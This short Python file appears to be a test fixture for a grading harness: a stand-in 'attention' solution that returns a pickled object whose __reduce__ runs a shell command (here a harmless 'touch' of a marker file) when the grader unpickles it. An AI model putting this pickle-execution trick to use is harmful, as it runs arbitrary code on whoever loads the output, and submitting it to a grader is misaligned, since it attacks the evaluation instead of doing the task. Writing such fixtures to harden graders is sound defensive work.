# problem: attention
# group: forging
# does: Answers with pickled bytes that would run a command where they are read.
# verdict: failed

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch ~/drill-hostile-pickle",)


def scaled_dot_product_attention(q, k, v, mask=None):
    return pickle.dumps(Command())
